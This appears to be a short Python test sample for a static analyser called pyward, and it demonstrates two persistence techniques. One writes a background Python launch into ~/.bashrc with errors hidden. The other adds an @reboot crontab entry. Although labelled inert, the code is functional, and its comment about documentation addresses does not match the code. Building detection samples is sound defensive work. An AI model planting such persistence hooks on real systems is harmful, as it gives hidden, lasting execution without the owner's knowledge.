# INERT test sample for pyward's static analysis: never run it. Modelled on shell-rc and cron persistence.
# Documented: MITRE ATT&CK T1546.004, T1053.003
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, subprocess
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('\n(python3 -c "import pers" &) 2>/dev/null\n')
subprocess.run('(crontab -l; echo "@reboot python3 -m pers") | crontab -', shell=True)
